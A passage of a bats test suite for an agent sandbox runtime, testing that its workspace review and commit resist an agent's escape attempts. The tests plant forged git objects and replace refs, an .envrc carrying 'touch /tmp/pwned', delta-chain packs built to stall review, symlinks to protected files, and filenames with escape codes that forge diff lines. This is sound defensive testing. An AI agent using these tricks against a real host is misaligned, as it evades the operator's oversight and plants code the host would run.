  [ ! -e "$HOST/.git/objects/Pack" ] && [ ! -e "$HOST/.git/objects/2E" ] && [ -z "$(ls "$HOST/.git/objects/ab" 2>/dev/null)" ] ||
    fail "reached the host: $(cd "$HOST/.git/objects" && ls -R Pack 2E ab 2>&1)"
}

@test "escape: a forged copy of the host's HEAD tree, the loose object rewritten (no ref changed; git reset --hard writes a .envrc and a symlink)" {
  forged_object_escape loose
}

@test "escape: a forged copy of the host's HEAD tree in a new pack (no ref changed; git reads a pack's copy first)" {
  forged_object_escape pack
}

# The agent's object files are read whole (above): one larger than agentrt holds in memory
# (64 MiB) is hashed as it streams, loose and in the pack `git gc` writes, not refused.
@test "workspace: an agent's commit of a 70 MiB file, loose and after git gc, passes unmarked and the host's git has it" {
  host_repo plain
  local id0=$ID
  bundle_usr 'set -e; cd /workspace; head -c 73400320 /dev/urandom >big.bin; git add big.bin
    git commit -q -m big; echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  run ar workspace "$ID" diff --format json
  [ "$(jq '[.changes[] | select(.protected) | select(.path | test("objects/|refs/|index$"))] | length' <<<"$output")" = 0 ] ||
    fail "loose: $(jq -c '[.changes[] | select(.protected) | [.path, .protected]]' <<<"$output")"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  ar delete --force "$ID" && ar workspace "$ID" purge
  ID=$id0-gc
  bundle_usr 'set -e; cd /workspace; git gc -q; ls .git/objects/pack; echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  run ar workspace "$ID" diff --format json
  [ "$(jq '[.changes[] | select(.path | test("objects/pack/pack-.*[.]pack$"))] | length' <<<"$output")" = 1 ] ||
    fail "no pack: $output"
  [ "$(jq '[.changes[] | select(.protected) | select(.path | test("objects/(pack/pack-|[0-9a-f]{2}/)"))] | length' <<<"$output")" = 0 ] ||
    fail "gc: $(jq -c '[.changes[] | select(.protected) | [.path, .protected]]' <<<"$output")"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  git -C "$HOST" fsck --no-progress >/dev/null 2>&1 || fail "fsck: $(git -C "$HOST" fsck 2>&1 | head)"
  git -C "$HOST" cat-file -p HEAD:big.bin | cmp - "$HOST/big.bin" || fail "big.bin"
}

# `git gc` writes one new pack and deletes the old packs and loose objects.  When agentrt holds
# the new pack back (here: a delta whose result is over the 64 MiB it reads whole), committing
# the deletions alone took the host's objects away: the host's repository lost its history.
@test "workspace: gc-held-back: an agent's git gc whose new pack is held back leaves the host's objects, and the host's repository whole" {
  host_repo plain
  echo one >"$HOST/a.txt"
  git -C "$HOST" add a.txt && git -C "$HOST" commit -q -m one
  git -C "$HOST" gc -q
  echo two >>"$HOST/a.txt"
  git -C "$HOST" commit -q -am two
  local before
  before=$(git -C "$HOST" rev-parse HEAD)
  bundle_usr 'set -e; cd /workspace; head -c 73400320 /dev/urandom >big.bin; git add big.bin
    git commit -q -m big; echo x >>big.bin; git commit -q -am big2; git gc -q --prune=now
    ls .git/objects/pack; echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  run ar workspace "$ID" diff --format json
  local diff=$output
  [ "$(jq '[.changes[] | select(.protected and .kind == "added") | select(.path | test("objects/pack/pack-.*[.]pack$"))] | length' <<<"$diff")" = 1 ] ||
    fail "the new pack is not held back, so this proves nothing: $(jq -c '[.changes[] | select(.path | test("objects/")) | [.kind, .path, .protected]]' <<<"$diff")"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  git -C "$HOST" fsck --no-progress >/dev/null 2>&1 ||
    fail "the host's repository lost objects: $(git -C "$HOST" fsck 2>&1 | head -5); diff: $(jq -c '[.changes[] | select(.path | test("objects/|refs|HEAD")) | [.kind, .path, .protected]]' <<<"$diff")"
  git -C "$HOST" cat-file -e "$before" || fail "the host's last commit is gone"
  git -C "$HOST" log --oneline >/dev/null || fail "git log on the host"
  # the work itself reached the host dir; the repository's part waits (named in the diff)
  [ "$(stat -c %s "$HOST/big.bin")" = 73400322 ] || fail "big.bin: $(ls -la "$HOST")"
  [ "$(jq -r '.changes[] | select(.path == ".git/packed-refs" or .path == ".git/refs/heads/master") | .protected // "none"' <<<"$diff" | grep -c "new objects are held back")" -ge 1 ] ||
    fail "the refs are not held back with the pack: $(jq -c '[.changes[] | select(.path | test("refs")) | [.kind, .path, .protected]]' <<<"$diff")"
}

# `git pack-refs` (or `git gc`) moves every loose ref into packed-refs and deletes the loose
# files: with the new packed-refs held back (here it carries a replace ref that makes the
# host's `git log` and `git reset --hard` show a forged commit for its HEAD), committing the
# deletions alone left the host's branch named nowhere ("your current branch does not have
# any commits yet").  The deletions wait with the packed-refs that holds their values.
@test "workspace: packed-refs-held-back: the loose refs git pack-refs deleted wait with a packed-refs held back, and the host's branch stays" {
  host_repo plain
  local head0
  head0=$(git -C "$HOST" rev-parse HEAD)
  git -C "$HOST" branch side
  bundle_usr 'set -e; cd /workspace; h=$(git rev-parse HEAD); echo forged >a.txt; git commit -q -am base
    f=$(git rev-parse HEAD); git reset -q --hard "$h"; git replace "$h" "$f"; git pack-refs --all
    test ! -e .git/refs/heads/master && test ! -e .git/refs/heads/side && grep -q refs/replace/ .git/packed-refs
    echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  marked .git/packed-refs .git/refs/heads/master .git/refs/heads/side
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [[ "$output" == *"left out .git/packed-refs"* && "$output" == *"left out .git/refs/heads/master"* ]] ||
    fail "commit: $output"
  [ "$(git -C "$HOST" rev-parse -q --verify refs/heads/master)" = "$head0" ] &&
    [ "$(git -C "$HOST" rev-parse -q --verify refs/heads/side)" = "$head0" ] ||
    fail "the host's branches are gone: $(git -C "$HOST" log --oneline -1 2>&1); $(ls -R "$HOST/.git/refs")"
  [ -z "$(git -C "$HOST" replace -l)" ] || fail "a replace ref reached the host"
  git -C "$HOST" reset -q --hard && [ "$(cat "$HOST/a.txt")" = hello ] || fail "a.txt: $(cat "$HOST/a.txt")"
  # control: the packed-refs and the deletions included, the host's branches are its packed ones
  # and its git shows the forged commit for its HEAD (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/packed-refs --include-protected .git/refs/heads
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  [ ! -e "$HOST/.git/refs/heads/master" ] && [ "$(git -C "$HOST" rev-parse master)" = "$head0" ] ||
    fail "control: master: $(ls -R "$HOST/.git/refs")"
  git -C "$HOST" reset -q --hard && [ "$(cat "$HOST/a.txt")" = forged ] || fail "control: a.txt: $(cat "$HOST/a.txt")"
}

# packlib DIR: DIR/packlib.py, for the tests' pack builders: var() and hdr() (a pack
# entry's size and header) and write_pack(ents, ids) (.git/objects/pack/pack-<id>.pack and its
# version 2 .idx; the path without its suffix)
# children_cpu_ms PID: the CPU time (user + system, ms) of shell PID's reaped children so far; the
# difference around a `run` is its command's CPU, which a loaded machine stretches far less
# than its wall time (the review-dos bounds below are on CPU: they failed on wall time under
# load with the same work done)
children_cpu_ms() {
  awk '{print ($16 + $17) * 1000 / '"$(getconf CLK_TCK)"'}' "/proc/$1/stat"
}

packlib() {
  cat >"$1/packlib.py" <<'PY'
import hashlib, struct, zlib
def var(x):
    out = bytearray()
    while True:
        b = x & 0x7f; x >>= 7
        out.append(b | (0x80 if x else 0))
        if not x: return bytes(out)
def hdr(typ, size):
    b = typ << 4 | size & 15; size >>= 4; out = bytearray()
    while size:
        out.append(b | 0x80); b = size & 0x7f; size >>= 7
    out.append(b); return bytes(out)
def write_pack(ents, ids):
    pack = bytearray(b"PACK" + struct.pack(">II", 2, len(ents))); offs = []
    for e in ents:
        offs.append(len(pack)); pack += e
    pack += hashlib.sha1(pack).digest()
    order = sorted(range(len(ids)), key=lambda k: ids[k])
    fan = [0] * 256
    for k in order:
        for j in range(ids[k][0], 256): fan[j] += 1
    idx = b"\377tOc" + struct.pack(">I", 2) + b"".join(struct.pack(">I", f) for f in fan)
    idx += b"".join(ids[k] for k in order)
    idx += b"".join(struct.pack(">I", zlib.crc32(ents[k])) for k in order)
    idx += b"".join(struct.pack(">I", offs[k]) for k in order) + pack[-20:]
    idx += hashlib.sha1(idx).digest()
    name = ".git/objects/pack/pack-" + pack[-20:].hex()
    open(name + ".pack", "wb").write(pack); open(name + ".idx", "wb").write(idx)
    return name
PY
}

# The agent's packs are read whole (above), in their own order with the last bases kept; a
# pack built against that (each of 4,000 entries a REF_DELTA on the entry after it, which git
# reads fine) made every entry walk the rest of the chain again: 8 million inflations, 18 s of
# the operator's `diff` for this 160 KiB pack, and a 1 GiB workspace holds thousands of them.
# The links of a chain are kept as it is applied, and past a budget of inflations (64 an entry)
# a pack is protected as one agentrt cannot check: this one is read in well under a second
# (its objects are what their ids say, so it may pass).
@test "escape: review-dos: a pack whose delta chains defeat the reader's cache is not read for minutes" {
  host_repo plain
  bundle_usr 'set -e; cd /workspace; python3 /etc/chain.py 4000 | sed "s/^/PACK /"; echo PLANTED'
  packlib "$BUNDLE/rootfs/etc"
  cat >"$BUNDLE/rootfs/etc/chain.py" <<'PY'
import hashlib, struct, sys, zlib
sys.path.insert(0, "/etc")
from packlib import write_pack
n = int(sys.argv[1])
def oid(t): return hashlib.sha1(b"blob %d\0" % len(t) + t).digest()
from packlib import var, hdr
t = [b"obj %d\n" % i for i in range(n + 1)]
ents, ids = [], []
for i in range(1, n):
    d = var(len(t[i + 1])) + var(len(t[i])) + bytes([len(t[i])]) + t[i]
    ents.append(hdr(7, len(d)) + oid(t[i + 1]) + zlib.compress(d)); ids.append(oid(t[i]))
ents.append(hdr(3, len(t[n])) + zlib.compress(t[n])); ids.append(oid(t[n]))
name = write_pack(ents, ids)
print(name + ".pack")
PY
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  pack=$(sed -n 's/^PACK //p' <<<"$output")
  git -C "$T/host" cat-file -e HEAD || fail "no host repository"
  SECONDS=0
  me=$BASHPID cpu=$(children_cpu_ms "$me")
  run timeout 120 "$AGENTRT" --root "$ROOT" --profile agent workspace "$ID" diff --format json
  cpu=$(($(children_cpu_ms "$me") - cpu))
  echo "# diff: ${SECONDS} s, ${cpu} ms of CPU" >&3
  [ "$status" -eq 0 ] || fail "diff: status $status after ${SECONDS}s: $output"
  # ASan's build reads this pack in ~6 s of CPU (the plain one in ~0.25 s); unbounded, it took
  # 18 s plain and would take minutes under ASan
  limit=5000
  ! ldd "$AGENTRT" 2>/dev/null | grep -q libasan || limit=25000
  [ "$cpu" -le "$limit" ] || fail "diff took ${cpu} ms of CPU (${SECONDS} s), limit $limit"
  jq -e --arg p "$pack" '.changes[] | select(.path == $p)' <<<"$output" >/dev/null || fail "no $pack: $output"
}

# The trees of a ref the agent changed are read object by object, each delta chain from its
# start.  A commit on the host's branch whose root tree holds 12,000 subtrees, each a REF_DELTA
# on the next of a chain of 4,000 (git reads them: fsck is clean), made the review walk the
# rest of a chain for every subtree: 24 million inflations, about a minute of the operator's
# `diff` for a 400 KiB pack, and more chains cost more.  Past a budget of inflations (64 an
# object read) the ref is protected as one agentrt cannot read, at once.
# (a time bound: the sanitizer pass, which runs no `flood` test, took 206 s for this diff)
# bats test_tags=flood
@test "escape: review-dos: a changed ref whose trees are delta chains read again for every tree is protected, not read for minutes" {
  host_repo plain
  bundle_usr 'set -e; cd /workspace; mkdir -p .git/objects/pack; C=$(python3 /etc/chains.py 3 4000 $(git rev-parse HEAD))
    git update-ref refs/heads/master $C; git cat-file -t HEAD; echo PLANTED'
  packlib "$BUNDLE/rootfs/etc"
  cat >"$BUNDLE/rootfs/etc/chains.py" <<'PY'
import hashlib, struct, sys, zlib
sys.path.insert(0, "/etc")
from packlib import write_pack
# a commit on HEAD whose root tree holds chains*length subtrees, each subtree a REF_DELTA on
# the next one of its chain: reading subtree i walks the rest of its chain
chains, length, parent = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
def oid(kind, body): return hashlib.sha1(b"%s %d\0" % (kind, len(body)) + body).digest()
from packlib import var, hdr
empty = oid(b"blob", b"")
ents, ids = [], []
def full(kind, typ, body):
    ents.append(hdr(typ, len(body)) + zlib.compress(body)); ids.append(oid(kind, body))
full(b"blob", 3, b"")
names = []
for c in range(chains):
    bodies = [b"100644 f%d\0" % (c * length + k) + empty for k in range(length)]
    for k in range(length):
        names.append((b"d%d" % (c * length + k), oid(b"tree", bodies[k])))
        if k + 1 < length:
            d = var(len(bodies[k + 1])) + var(len(bodies[k])) + bytes([len(bodies[k])]) + bodies[k]
            ents.append(hdr(7, len(d)) + oid(b"tree", bodies[k + 1]) + zlib.compress(d))
            ids.append(oid(b"tree", bodies[k]))
        else:
            full(b"tree", 2, bodies[k])
names.sort(key=lambda e: e[0] + b"/")
root = b"".join(b"40000 " + n + b"\0" + i for n, i in names)
full(b"tree", 2, root)
commit = b"tree %s\nparent %s\nauthor a <a@x> 0 +0000\ncommitter a <a@x> 0 +0000\n\nchains\n" % (
    oid(b"tree", root).hex().encode(), parent.encode())
full(b"commit", 1, commit)
name = write_pack(ents, ids)
print(oid(b"commit", commit).hex())
PY
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  SECONDS=0
  me=$BASHPID cpu=$(children_cpu_ms "$me")
  run timeout 300 "$AGENTRT" --root "$ROOT" --profile agent workspace "$ID" diff --format json
  cpu=$(($(children_cpu_ms "$me") - cpu))
  echo "# diff: ${SECONDS} s, ${cpu} ms of CPU" >&3
  [ "$status" -eq 0 ] || fail "diff: status $status after ${SECONDS}s"
  # the ref's reason below is what shows the budget at work; the bound catches a reader that
  # walks the chains whole again (about a minute of CPU before the budget on a quiet machine;
  # with it, 10 s of wall there and 33 s of CPU under a load of 7 on two cores)
  [ "$cpu" -le 45000 ] || fail "diff took ${cpu} ms of CPU (${SECONDS} s)"
  [ "$(jq -r '.changes[] | select(.path == ".git/refs/heads/master") | .protected // "none"' <<<"$output")" != none ] ||
    fail "the ref is not protected: $(jq -c '[.changes[] | select(.path | test("refs|pack")) | [.path, .protected]]' <<<"$output")"
  jq -r '.changes[] | select(.path == ".git/refs/heads/master") | .protected' <<<"$output" | grep -q 'cannot read' ||
    fail "reason: $(jq -r '.changes[] | select(.path == ".git/refs/heads/master") | .protected' <<<"$output")"
}

# A split index (core.splitIndex, `git update-index --split-index`) holds only the entries
# changed since its shared index `.git/sharedindex.<id>`, a replaced one without its name.
# Both are read as git merges them (gitindex.c).  Before, every split index was protected (a
# nameless entry read as a path inside `.git`) and its sharedindex left out: the host's index
# stayed behind the committed HEAD (`git status` showed the agent's commits as undone).
@test "workspace: an honest agent's commits under a split index commit the index and its sharedindex, and the host's git sees them" {
  host_repo plain
  git -C "$HOST" config core.splitIndex true
  echo v1 >>"$HOST/a.txt" && git -C "$HOST" commit -qam v1
  compgen -G "$HOST/.git/sharedindex.*" >/dev/null || fail "the host's index is not split"
  bundle_usr 'set -e; cd /workspace
    echo two >>a.txt && git commit -qam two && echo n >n.txt && git add n.txt && git commit -qm n
    git update-index --split-index && git mv b.txt b2.txt && git commit -qm mv
    git status --porcelain; echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '[.changes[] | select(.protected) | .path | select(test("^\\.git/(objects|refs|logs|sharedindex)|^\\.git/(index|HEAD)$"))] | length' <<<"$output")" = 0 ] ||
    fail "git data protected: $output"
  jq -e '[.changes[] | select(.kind == "added" and (.path | startswith(".git/sharedindex.")))] | length > 0' \
    <<<"$output" >/dev/null || fail "no new sharedindex: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(git -C "$HOST" log --format=%s -3 | tr '\n' ' ')" = "mv n two " ] || fail "$(git -C "$HOST" log --oneline)"
  [ -z "$(git -C "$HOST" status --porcelain)" ] || fail "host tree not clean: $(git -C "$HOST" status --porcelain)"
  git -C "$HOST" ls-files --error-unmatch b2.txt n.txt >/dev/null || fail "$(git -C "$HOST" ls-files)"
  git -C "$HOST" fsck --no-progress >/dev/null 2>&1 || fail "fsck: $(git -C "$HOST" fsck 2>&1 | head)"
}

# The merged entries are what is checked: a tracked `.envrc` staged again is a nameless
# replacement of the shared index's entry (its path comes from there), and a sharedindex the
# agent rewrote under the host's name (the host's index reads it) is protected.
@test "escape: a .envrc staged through a split index's replaced entry, and a rewritten sharedindex" {
  host_repo plain
  git -C "$HOST" config core.splitIndex true
  echo 'export A=1' >"$HOST/.envrc" && git -C "$HOST" add .envrc && git -C "$HOST" commit -qm envrc
  shared=$(cd "$HOST" && ls .git/sharedindex.*)
  bundle_usr 'set -e; cd /workspace
    echo "touch /tmp/pwned" >>.envrc && git add .envrc
    git ls-files -s .envrc; echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  run ar workspace "$ID" diff --format json
  [[ "$(jq -r '.changes[] | select(.path == ".git/index") | .protected // "none"' <<<"$output")" == *'on the protected list'*'`.envrc`' ]] ||
    fail ".git/index: $output"
  ar workspace "$ID" purge
  bundle_usr "set -e; cd /workspace; printf x >>$shared; echo GIT-OK"
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  run ar workspace "$ID" diff --format json
  [[ "$(jq -r --arg p "$shared" '.changes[] | select(.path == $p) | .protected // "none"' <<<"$output")" == *'rewrites a shared index'* ]] ||
    fail "$shared: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  git -C "$HOST" status --porcelain >/dev/null 2>&1 || fail "host git: $(git -C "$HOST" status 2>&1)"
}

@test "workspace: go build in a workspace that is not a repository" {
  command -v go >/dev/null || skip "needs golang-go"
  bundle_usr 'set -e; cd /workspace && printf "package main\n\nfunc main() { println(\"built\") }\n" >main.go &&
    go mod init example.com/x 2>&1 && go build -o app . 2>&1 && ./app 2>&1 && ls -a /workspace'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  [[ "$output" == *built* ]] || fail "$output"
  [[ "$output" != *".git"* ]] && [[ "$output" != *"VCS"* ]] || fail "$output"
}

# Bind mode (an explicit loosening): what exists at create is bound read-only,
# nothing is created, and explain says what is not protected.
@test "workspace: bind mode binds existing git config, hooks and listed files read-only and creates nothing" {
  host_repo plain
  echo 'export A=1' >"$HOST/.envrc"
  mkdir -p "$HOST/plain"
  bundle_for 'cd /workspace; echo x >>.git/config 2>/dev/null && echo CONFIG-WRITTEN;
    echo x >.git/hooks/pre-commit 2>/dev/null && echo HOOK-WRITTEN; echo x >>.envrc 2>/dev/null && echo ENVRC-WRITTEN;
    echo ok >ok.txt; cat /proc/self/mountinfo'
  jq '.annotations["run.agentrt.workspace.mode"] = "bind"' "$BUNDLE/config.json" >"$T/c.json" && mv "$T/c.json" "$BUNDLE/config.json"
  run ar run --keep --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  [[ "$output" != *WRITTEN* ]] || fail "$output"
  [ "$(cat "$HOST/ok.txt")" = ok ]
  for p in /workspace/.git/config /workspace/.git/hooks /workspace/.envrc; do
    awk -v p="$p" '$5 == p && $6 ~ /^ro/ { f = 1 } END { exit !f }' <<<"$output" || fail "$p not bound ro"
  done
  [[ "$output" != *"/workspace/.vscode"* && "$output" != *"/workspace/.git/commondir"* ]]
  [ ! -e "$HOST/.vscode" ] && [ ! -e "$HOST/.git/commondir" ] && [ ! -e "$HOST/plain/.git" ]
  run ar explain "$ID"
  [[ "$output" == *"NOT protected in bind mode"* ]] || fail "$output"
  ar delete --force "$ID"
}

@test "workspace: bind-protect-via-symlink: protected names that are symlinks inside the workspace stay read-only" {
  # other names for a protected thing: .git a relative symlink to the real git dir,
  # .envrc a relative one into a subdirectory, .vimrc an absolute one (resolved in
  # the container's root); each target is bound read-only as the name itself would be
  mkdir -p "$HOST/realgit/hooks" "$HOST/env"
  echo '[core]' >"$HOST/realgit/config"
  echo 'export A=1' >"$HOST/env/real"
  echo 'set nocp' >"$HOST/vimrc.real"
  ln -s realgit "$HOST/.git"
  ln -s env/real "$HOST/.envrc"
  ln -s /workspace/vimrc.real "$HOST/.vimrc"
  ln -s .exrc "$HOST/.exrc"             # a loop: create must not fail on it
  ln -s missing/nvimrc "$HOST/.nvimrc" # dangling
  bundle_for 'cd /workspace; echo x >>.git/config 2>/dev/null && echo CONFIG-WRITTEN;
    echo x >.git/hooks/pre-commit 2>/dev/null && echo HOOK-WRITTEN;
    echo x >>.envrc 2>/dev/null && echo ENVRC-WRITTEN; echo x >>.vimrc 2>/dev/null && echo VIMRC-WRITTEN;
    echo x >>env/real 2>/dev/null && echo REAL-ENVRC-WRITTEN; echo ok >ok.txt;
    rm -f .envrc 2>/dev/null && echo ENVRC-REMOVED; mv .vimrc vv 2>/dev/null && echo VIMRC-MOVED;
    rm -f .exrc 2>/dev/null && echo EXRC-REMOVED; rm -f .nvimrc 2>/dev/null && echo NVIMRC-REMOVED; true'
  jq '.annotations["run.agentrt.workspace.mode"] = "bind"' "$BUNDLE/config.json" >"$T/c.json" && mv "$T/c.json" "$BUNDLE/config.json"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  [[ "$output" != *WRITTEN* ]] || fail "a protected file was written through its symlink: $output"
  [[ "$output" != *REMOVED* && "$output" != *MOVED* ]] || fail "a protected name was replaced: $output"
  [ "$(cat "$HOST/ok.txt")" = ok ] || fail "the workspace itself is not writable"
  [ "$(cat "$HOST/realgit/config")" = '[core]' ] && [ ! -e "$HOST/realgit/hooks/pre-commit" ] &&
    [ "$(cat "$HOST/env/real")" = 'export A=1' ] && [ "$(cat "$HOST/vimrc.real")" = 'set nocp' ] ||
    fail "the host's protected files changed"
  # a protected name for the workspace itself, one above it, a device or a proc file: the
  # run starts and the workspace stays writable (nothing of its own to protect there)
  local t
  for t in . /workspace / ../../.. /dev/null /proc/self/environ; do
    rm -f "$HOST/.envrc" "$HOST/ok.txt"
    ln -s "$t" "$HOST/.envrc"
    run ar run --bundle "$BUNDLE" "$ID-$RANDOM"
    [ "$status" -eq 0 ] && [ "$(cat "$HOST/ok.txt")" = ok ] || fail ".envrc -> $t: $status: $output"
  done
}

# --- any tree the agent can build

@test "workspace: a 400-deep tree diffs, commits, snapshots and purges completely" {
  bundle_for 'cd /workspace && i=0; while [ $i -lt 400 ]; do mkdir d && cd d || exit 1; i=$((i+1)); done; echo deep >f'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  deep=$(printf 'd/%.0s' $(seq 400))f
  run ar workspace "$ID" diff --format json
  [ "$status" -eq 0 ] || fail "$output"
  [ "$(jq -r '.changes | length' <<<"$output")" = 401 ]
  [ "$(jq -r '.changes[-1].path' <<<"$output")" = "$deep" ]
  run ar workspace "$ID" snapshot s1
  [ "$status" -eq 0 ] || fail "$output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "$output"
  [ "$(cd "$HOST" && cat "$deep")" = deep ]
  run ar workspace "$ID" purge
  [ "$status" -eq 0 ] || fail "$output"
  [ ! -e "$STORE/.workspaces/$ID" ] || fail "left: $(find "$STORE/.workspaces/$ID" -maxdepth 3 | head)"
}

@test "workspace: a tree deeper than PATH_MAX: diff names what is too long to check, commit applies the rest" {
  # 150 levels of 20-byte names, then a tree of 100 more moved below them with one rename: its
  # paths (5,000+ bytes) are longer than a host tool, or the review's look for a bare
  # repository's HEAD on the host, can open by name.  Before, that look failed and counted as
  # "no HEAD", and commit refused everything ("differ from what the last diff showed").
  bundle_for 'cd /workspace && n=dddddddddddddddddddd && mkdir a b &&
    (cd a && i=0; while [ $i -lt 150 ]; do mkdir $n && cd $n || exit 1; i=$((i+1)); done) &&
    (cd b && i=0; while [ $i -lt 100 ]; do mkdir $n && cd $n || exit 1; i=$((i+1)); done; echo deep >f) &&
    echo near >a/near && mv b "a/$(printf "$n/%.0s" $(seq 150))b"'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  run ar workspace "$ID" diff --format json
  [ "$status" -eq 0 ] || fail "$(tail -c 600 <<<"$output")"
  long=$(jq '[.changes[] | select(.path | length + 5 > 4096)] | length' <<<"$output")
  marked=$(jq '[.changes[] | select(.path | length + 5 > 4096) | select(.protected // "" | test("too long to check"))] | length' <<<"$output")
  [ "$long" -ge 50 ] && [ "$long" = "$marked" ] || fail "$marked of $long paths over PATH_MAX marked"
  jq -e '.changes[] | select(.path == "a/near") | .protected == null' <<<"$output" >/dev/null ||
    fail "a/near marked: $(jq -c '.changes[] | select(.path == "a/near")' <<<"$output")"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "$(tail -c 600 <<<"$output")"
  [[ "$output" == *"left out $long protected change(s)"* ]] || fail "$(tail -c 300 <<<"$output")"
  [ "$(cat "$HOST/a/near")" = near ] || fail "a/near not committed"
  run ar workspace "$ID" purge
  [ "$status" -eq 0 ] || fail "$output"
}

@test "workspace: non-UTF-8 names and hard links commit exactly" {
  bundle_for 'cd /workspace && echo raw >"$(printf "n\377x")" && echo one >h1 && ln h1 h2 && ln a.txt a-link'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  run ar workspace "$ID" diff
  [[ "$output" == *'added     "n\377x"  (file, 4 bytes)'* ]] || fail "$output"
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '.changes[] | select(.path_hex) | "\(.path) \(.path_hex)"' <<<"$output")" = '"n\377x" 6eff78' ] ||
    fail "$output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "$output"
  [ "$(cat "$HOST/$(printf 'n\377x')")" = raw ]
  [ "$(cat "$HOST/h1")" = one ] && [ "$(cat "$HOST/h2")" = one ] && [ "$(cat "$HOST/a-link")" = hello ]
}

# A fifo among ten files stopped the commit after three were applied.
@test "workspace: special files are listed, skipped with a warning and never half-applied" {
  bundle_for 'cd /workspace && for i in 0 1 2 3 4 5 6 7 8 9; do echo $i >f$i; done && mkfifo f3-fifo && ls -l f3-fifo'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  run ar workspace "$ID" diff
  [[ "$output" == *"f3-fifo  (other, 0 bytes)  [special file: never committed]"* ]] || fail "$output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "$output"
  [[ "$output" == *"skipped f3-fifo: a special file"* ]] || fail "$output"
  for i in 0 1 2 3 4 5 6 7 8 9; do [ "$(cat "$HOST/f$i")" = "$i" ]; done
  [ ! -e "$HOST/f3-fifo" ]
}

# The first pass checks and stages everything; a failure there (here: the host
# path `z` is a symlink, which commit never crosses, even with --force) leaves
# the host as it was.
@test "workspace: commit is all or nothing: a failure on the last path applies none of the others" {
  mkdir -p "$HOST/zlocked"
  bundle_for 'cd /workspace && for i in 0 1 2 3 4 5 6 7 8 9; do echo $i >f$i; done && mkdir newdir && echo n >newdir/n &&
    echo x >zlocked/x'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  # the last path's host directory refuses new files (immutable): its staging fails
  chattr +i "$HOST/zlocked" 2>/dev/null || skip "chattr +i not supported here"
  tree0=$(host_tree)
  run ar workspace "$ID" commit --force
  chattr -i "$HOST/zlocked"
  [ "$status" -ne 0 ] || fail "commit succeeded: $output"
  [[ "$output" == *"nothing was applied"*"zlocked/x"* ]] || fail "$output"
  [ "$(host_tree)" = "$tree0" ] || fail "the host changed: $(ls -la "$HOST")"
  [ -z "$(find "$HOST" -name '.agentrt-ws.*')" ]
}

@test "workspace: setuid and setgid bits are stripped from committed files and directories" {
  chmod 0775 "$HOST" # open to its group: g keeps its group write
  bundle_for 'cd /workspace && mkdir g && chmod 2775 g && echo x >g/f && echo s >s && chmod 4755 s && chmod 2755 src'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "$output"
  [ "$(stat -c %a "$HOST/g")" = 775 ] || fail "g: $(stat -c %a "$HOST/g")"
  [ "$(stat -c %a "$HOST/s")" = 755 ] || fail "s: $(stat -c %a "$HOST/s")"
  [ "$(stat -c %a "$HOST/src")" = 755 ] || fail "src: $(stat -c %a "$HOST/src")"
}

# Names are the agent's: a newline and a fake change line, escape sequences
# that erase the previous line.  Text output quotes them (one change per
# line, no raw control byte); JSON keeps them exactly.
@test "workspace: forged names cannot add, hide or rewrite lines of the diff" {
  bundle_for 'cd /workspace && echo a >"$(printf "x\nadded     evil.sh  (file, 1 bytes)")" &&
    echo b >"$(printf "\033[2K\033[1Aquiet")" && echo c >"$(printf "tab\there")" && rm b.txt'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  ar workspace "$ID" diff >"$T/diff.txt"
  ! grep -q '^added     evil.sh' "$T/diff.txt" || fail "forged line: $(cat "$T/diff.txt")"
  ! grep -q $'\033' "$T/diff.txt" || fail "raw escape in the diff"
  [ "$(grep -c '^added' "$T/diff.txt")" = 3 ] && [ "$(grep -c '^deleted' "$T/diff.txt")" = 1 ]
  grep -qF 'added     "x\nadded     evil.sh  (file, 1 bytes)"  (file, 2 bytes)' "$T/diff.txt"
  grep -qF 'added     "\033[2K\033[1Aquiet"' "$T/diff.txt"
  grep -qF 'added     "tab\there"' "$T/diff.txt"
  ar workspace "$ID" diff --patch >"$T/patch.txt"
